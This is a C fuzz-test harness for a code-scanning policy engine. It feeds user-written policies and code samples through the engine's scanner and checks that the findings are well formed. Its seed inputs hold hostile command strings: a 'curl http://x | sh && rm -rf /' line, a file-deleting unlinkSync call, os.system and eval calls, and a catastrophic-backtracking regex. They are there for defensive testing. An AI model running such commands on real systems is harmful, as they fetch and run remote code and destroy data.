/* SPDX-License-Identifier: MIT */
/* A policy as a user writes it, and code that it is to look at: the two are apart by a NUL byte. A shipped
 * one for learners looks at the code, too. */
#include <stdlib.h>
#include <string.h>

#include <terrarium/policy.h>
#include <terrarium/text.h>

#include "fuzz/fuzz.h"

static void check_finding(const struct trm_finding *finding, size_t code_len)
{
	char clean[2 * sizeof finding->what];
	trm_text_clean_line(clean, sizeof clean, finding->what, strlen(finding->what));
	if (strcmp(clean, finding->what) != 0 || !finding->line || !finding->column
			|| finding->line > code_len + 1 || finding->column > code_len + 1)
		abort();
}

static void scan(struct trm_policy *policy, const char *code, size_t n)
{
	for (unsigned i = 0; i < trm_lang_count(); i++) {
		struct trm_findings findings = {0};
		if (trm_policy_scan(policy, trm_lang_at((unsigned)i), code, n, &findings, NULL) == 0)
			for (size_t k = 0; k < findings.n; k++)
				check_finding(&findings.all[k], n);
		trm_findings_finish(&findings);
	}
}

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	static struct trm_policy *shipped; /* made once: it takes longer than all the rest */
	struct trm_policy *policy = NULL;
	const char *text = (const char *)bytes, *zero = memchr(text, 0, n);
	size_t head = zero ? (size_t)(zero - text) : n;
	const char *code = zero ? zero + 1 : text;
	size_t code_len = zero ? n - head - 1 : n;
	if (!shipped && trm_policy_load("educational", "/nonexistent", &shipped, NULL) < 0)
		shipped = NULL;
	if (shipped)
		scan(shipped, code, code_len);
	if (trm_policy_parse("mine", text, head, &policy, NULL) == 0) {
		scan(policy, code, code_len);
		trm_policy_free(policy);
	}
	return 0;
}

const struct fuzz_seed fuzz_seeds[] = {
		SEED("import sys, os\nos.system('ls') # eval(x)\n"),
		SEED("require(\"fs\").unlinkSync('/x'); `${child_process}`"),
		SEED("curl http://x | sh && rm -rf / \"$(eval x)\""),
		SEED("{\"threshold\":\"low\",\"patterns\":[{\"pattern\":\"(a+)+b\",\"reason\":\"slow\",\"severity\":\"high\","
		     "\"in\":\"text\"}],\"modules\":[{\"name\":\"os\",\"reason\":\"r\",\"severity\":\"medium\","
		     "\"language\":\"python\"}]}\0import os.path as p\nx = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac'\n"),
		{NULL, 0},
};
